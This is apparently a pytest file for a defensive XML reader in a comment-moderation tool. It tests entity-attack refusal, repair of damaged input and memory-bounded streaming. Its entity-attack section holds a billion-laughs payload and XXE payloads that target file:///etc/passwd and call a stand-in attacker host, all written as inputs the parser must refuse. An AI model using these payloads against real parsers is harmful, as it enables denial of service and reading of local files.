"""The shared XML reader: refuses entity attacks, streams in bounded memory, repairs damage."""

from __future__ import annotations

import io
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from moderation.errors import ParseError
from moderation.parsers import disqus, wxr
from moderation.parsers.xmlsafe import CHUNK_BYTES, head_text, iter_elements, root_name, tag_name

REPO = Path(__file__).resolve().parents[2]


def read(data: bytes, tags: tuple[str, ...] = ("item",), root: str = "rss",
         keep_partial: bool = False) -> tuple[list[tuple[str, list[str], str]], list[str]]:
    """(tag, child tags, text) of each element handed out, and the warnings."""
    warnings: list[str] = []
    found = [
        (tag_name(el), [tag_name(child) for child in el], "".join(el.itertext()))
        for el in iter_elements(io.BytesIO(data), "test.xml", tags, warnings, root=root,
                                keep_partial=keep_partial)
    ]
    return found, warnings


# --- entity attacks -----------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss xmlns:wp="http://wordpress.org/export/1.2/" a="&lol9;"><channel><item>
<title>&lol9;</title><wp:comment><wp:comment_content>&lol9;</wp:comment_content></wp:comment>
</item></channel></rss>
"""


def xxe(target: str, root: str = "rss") -> bytes:
    return f"""<?xml version="1.0"?>
<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{target}">]>
<{root} xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>&xxe;</title>
</item></channel></{root}>
""".encode()


@pytest.mark.parametrize("parse", [wxr.parse, disqus.parse])
def test_billion_laughs_is_refused(parse) -> None:
    with pytest.raises(ParseError, match="refused: the DOCTYPE declares entities") as err:
        list(parse(io.BytesIO(BILLION_LAUGHS), "laughs.xml"))
    assert err.value.path == "laughs.xml"


def test_external_file_entity_is_refused_and_the_file_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    with pytest.raises(ParseError, match="refused") as err:
        list(wxr.parse(io.BytesIO(xxe(secret.as_uri())), "xxe.xml"))
    assert "TOP-SECRET-MARKER" not in str(err.value)
    with pytest.raises(ParseError, match="refused"):
        list(wxr.parse(io.BytesIO(xxe("file:///etc/passwd")), "xxe.xml"))


def test_network_entity_and_parameter_entity_are_refused() -> None:
    with pytest.raises(ParseError, match="refused"):
        list(disqus.parse(io.BytesIO(xxe("http://attacker.invalid/x", root="disqus")), "x.xml"))
    parameter = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM '
                 b'"http://attacker.invalid/evil.dtd"> %remote;]><rss/>')
    with pytest.raises(ParseError, match="refused"):
        read(parameter)


def test_a_doctype_without_entities_is_read_offline() -> None:
    # RSS 0.91's public DTD: referenced, never fetched (no network, no DTD loading).
    data = (b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS '
            b'0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
            b"<rss><channel><item>fine</item></channel></rss>")
    assert read(data) == ([("item", [], "fine")], [])


# --- repairs ------------------------------------------------------------------------------


def test_byte_order_mark_is_legal_and_silent() -> None:
    found, warnings = read(b"\xef\xbb\xbf<?xml version='1.0'?><rss><item>a</item></rss>")
    assert found == [("item", [], "a")]
    assert warnings == []


def test_junk_before_the_declaration_is_skipped_with_a_warning() -> None:
    # What a PHP notice printed by a plugin before the export looks like: markup of its own.
    junk = b"<br />\n<b>Notice</b>: Undefined index in export.php on line 12<br />\n"
    found, warnings = read(junk + b'<?xml version="1.0"?>\n<rss><item>a</item></rss>')
    assert found == [("item", [], "a")]
    assert warnings == [f"{len(junk)} byte(s) of junk before the XML skipped"]


def test_a_stray_character_before_the_first_tag_is_skipped() -> None:
    found, warnings = read(b"x<rss><item>a</item></rss>")
    assert found == [("item", [], "a")]
    assert warnings == ["1 byte(s) of junk before the XML skipped"]


def test_junk_shifts_error_line_numbers_back_to_the_file() -> None:
    found, warnings = read(b"junk\n\n<rss><item>a</item><item>b</x></item></rss>")
    assert found == [("item", [], "a")]
    assert "at line 3 " in warnings[1]


def test_invalid_utf8_is_replaced_and_located() -> None:
    data = b'<?xml version="1.0" encoding="UTF-8"?><rss><item>caf\xc3\xa9 \xff\xfe ok</item></rss>'
    bad_at = data.index(b"\xff")
    found, warnings = read(data)
    assert found == [("item", [], "caf\u00e9 \ufffd\ufffd ok")]
    assert warnings == [f"invalid UTF-8 at byte {bad_at}: 2 byte(s) replaced with U+FFFD"]


def test_invalid_utf8_offset_counts_the_bom_and_junk() -> None:
    data = b"\xef\xbb\xbfJUNK<rss><item>\xc0</item></rss>"
    bad_at = data.index(b"\xc0")
    found, warnings = read(data)
    assert found == [("item", [], "\ufffd")]
    assert f"invalid UTF-8 at byte {bad_at}:" in warnings[1]


def test_control_characters_are_removed() -> None:
    found, warnings = read(b"<rss><item>a\x0bb\x00c\x1a</item></rss>")
    assert found == [("item", [], "abc")]
    assert warnings == ["3 control character(s) that XML does not allow removed"]


def test_html_entities_outside_cdata_are_read_and_cdata_is_left_alone() -> None:
    data = (b"<rss><item><t>caf&eacute;&nbsp;&amp;&#8217;&madeup;</t>"
            b"<c><![CDATA[&nbsp; stays &raquo; as written]]></c><!-- &copy; --></item></rss>")
    found, warnings = read(data)
    assert found == [("item", ["t", "c"],
                      "caf\u00e9\u00a0&\u2019&madeup;&nbsp; stays &raquo; as written")]
    assert warnings == [
        "2 HTML entity reference(s) that XML does not define (such as &eacute;) "
        "read as the characters they name",
        "1 unknown entity reference(s) (such as &madeup;) kept as literal text",
    ]


@pytest.mark.parametrize("marker", ["&nbsp;", "<![CDATA["])
def test_markers_split_across_read_chunks_are_seen_whole(marker: str) -> None:
    # Put the marker across the 64 KiB boundary where the reader splits its input.
    before = '<?xml version="1.0"?><rss><item><a>'
    pad = "x" * (CHUNK_BYTES - len(before) - 3)
    body = "&nbsp;" if marker == "&nbsp;" else "<![CDATA[&nbsp;]]>"
    data = (before + pad + body + "</a></item></rss>").encode()
    assert data.index(marker.encode()) < CHUNK_BYTES < data.index(marker.encode()) + len(marker)
    found, warnings = read(data)
    expected = "\u00a0" if marker == "&nbsp;" else "&nbsp;"
    assert found[0][2] == pad + expected
    assert bool(warnings) == (marker == "&nbsp;")


def test_utf16_and_declared_single_byte_encodings_are_decoded() -> None:
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><rss><item>\u017c\u00f3\u0142w</item></rss>'
    assert read(utf16.encode("utf-16")) == ([("item", [], "\u017c\u00f3\u0142w")], [])
    cp1252 = '<?xml version="1.0" encoding="windows-1252"?><rss><item>\u201cq\u201d</item></rss>'
    assert read(cp1252.encode("cp1252")) == ([("item", [], "\u201cq\u201d")], [])


# --- cut-off and broken files ---------------------------------------------------------------

DOC = (b'<?xml version="1.0"?>\n<rss><channel>\n'
       b"<item><t>one</t><c>1</c></item>\n"
       b"<item><t>two</t><c>2</c><c>3</c></item>\n"
       b"</channel></rss>\n")


def test_complete_document_reads_every_element_without_warnings() -> None:
    assert read(DOC) == ([("item", ["t", "c"], "one1"), ("item", ["t", "c", "c"], "two23")], [])


def test_cut_inside_the_last_element_keeps_what_came_before() -> None:
    cut = DOC[: DOC.index(b"<c>3") + 4]  # inside the last <c>
    found, warnings = read(cut)
    assert found == [("item", ["t", "c"], "one1")]
    assert len(warnings) == 1
    assert "cut off or broken at line 4" in warnings[0]
    assert "the incomplete last <item> was left out" in warnings[0]


def test_keep_partial_yields_the_complete_children_of_the_cut_element() -> None:
    cut = DOC[: DOC.index(b"<c>3") + 4]
    found, warnings = read(cut, keep_partial=True)
    assert found == [("item", ["t", "c"], "one1"), ("item", ["t", "c"], "two2")]
    assert "only its complete parts were kept" in warnings[0]


def test_keep_partial_keeps_a_last_child_that_ended_just_before_the_cut() -> None:
    cut = DOC[: DOC.index(b"<c>3</c>") + len(b"<c>3</c>")]
    found, _ = read(cut, keep_partial=True)
    assert found[-1] == ("item", ["t", "c", "c"], "two23")


def test_cut_right_after_an_element_starts_leaves_it_out_even_with_keep_partial() -> None:
    cut = DOC[: DOC.index(b"<item><t>two") + len(b"<item>")]
    found, warnings = read(cut, keep_partial=True)
    assert found == [("item", ["t", "c"], "one1")]
    assert "was left out" in warnings[0]


def test_malformed_end_tag_in_the_last_element() -> None:
    broken = DOC.replace(b"<c>3</c>", b"<c>3</d>")
    found, warnings = read(broken)
    assert found == [("item", ["t", "c"], "one1")]
    assert "Opening and ending tag mismatch" in warnings[0]


def test_garbage_after_the_document_keeps_everything() -> None:
    found, warnings = read(DOC + b"<extra>")
    assert [f[2] for f in found] == ["one1", "two23"]
    assert "everything before it was read, the rest ignored" in warnings[0]


def test_repairs_are_reported_even_when_the_file_is_cut_off() -> None:
    found, warnings = read(b"<rss><item>a\xffb</item><item>c")
    assert found == [("item", [], "a\ufffdb")]
    assert warnings[0].startswith("invalid UTF-8 at byte 12: 1 byte(s)")
    assert "cut off or broken" in warnings[1]


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "the input is empty"),
        (b"  \n\xef\xbb\xbf ", "the input is empty"),
        (b"just some words, no markup at all", "not XML: no markup"),
        (b'<?xml version="1.0"?>\n<rss', "not well-formed XML"),
        (b'<?xml version="1.0"?><!-- only a comment -->', "not well-formed XML"),
        (b"<disqus><post/></disqus>", "the document element is <disqus>, not <rss>"),
    ],
)
def test_unreadable_input_is_a_parse_error_naming_the_file(data: bytes, why: str) -> None:
    with pytest.raises(ParseError, match=why) as err:
        read(data)
    assert str(err.value).startswith("test.xml")


def test_nested_elements_of_interest_stay_inside_the_outer_one() -> None:
    data = b'<disqus><thread id="1"/><post id="2"><thread id="1"/></post></disqus>'
    found, _ = read(data, tags=("thread", "post"), root="disqus")
    assert found == [("thread", [], ""), ("post", ["thread"], "")]


# --- sniffing helpers -----------------------------------------------------------------------


def test_root_name_sees_past_bom_junk_comments_and_prefixes() -> None:
    head = b'junk <br/>\xef\xbb\xbf<?xml version="1.0"?><!-- <fake> --><x:rss xmlns:x="u">'
    assert root_name(head) == "rss"
    assert head_text(head).startswith("<?xml")
    assert root_name(b"\xef\xbb\xbf<disqus xmlns='http://disqus.com'>") == "disqus"
    assert root_name("<?xml version='1.0'?><disqus/>".encode("utf-16")) == "disqus"
    assert root_name(b"no markup") is None


# --- memory ----------------------------------------------------------------------------------

_MEASURE = textwrap.dedent("""
    import resource, sys
    from moderation.parsers import wxr
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    threads = comments = 0
    with open(sys.argv[1], "rb") as stream:
        for thread in wxr.parse(stream, sys.argv[1]):
            threads += 1
            comments += len(thread.comments)
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(threads, comments, (after - before) * 1024)
""")


def _write_big_wxr(path: Path, target_bytes: int) -> tuple[int, int]:
    body = "A long comment about harbour parking and the ferry timetable, said many times. " * 25
    posts = comments = 0
    with path.open("w", encoding="utf-8") as out:
        out.write('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" '
                  'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
                  'xmlns:wp="http://wordpress.org/export/1.2/"><channel>\n')
        while out.tell() < target_bytes:
            posts += 1
            out.write(f"<item><title>Post {posts}</title><wp:post_type>post</wp:post_type>"
                      f"<content:encoded><![CDATA[<p>Body {posts}</p>]]></content:encoded>\n")
            for n in range(20):
                comments += 1
                out.write(f"<wp:comment><wp:comment_id>{comments}</wp:comment_id>"
                          f"<wp:comment_date_gmt>2024-01-01 10:00:00</wp:comment_date_gmt>"
                          f"<wp:comment_content><![CDATA[{body}]]></wp:comment_content>"
                          f"<wp:comment_approved>1</wp:comment_approved>"
                          f"<wp:comment_parent>{comments - 1 if n else 0}</wp:comment_parent>"
                          "</wp:comment>\n")
            out.write("</item>\n")
        out.write("</channel></rss>\n")
    return posts, comments


def test_a_large_export_streams_in_bounded_memory(tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    posts, comments = _write_big_wxr(big, 24 * 1024 * 1024)
    size = big.stat().st_size
    result = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(big)], capture_output=True, text=True, cwd=REPO,
        check=True, timeout=120,
    )
    threads, read_comments, growth = map(int, result.stdout.split())
    assert (threads, read_comments) == (posts, comments)
    # The whole file parsed into a tree would need several times its size; a stream needs
    # one post at a time.
    assert growth < size / 4, f"peak memory grew by {growth} bytes for a {size}-byte file"
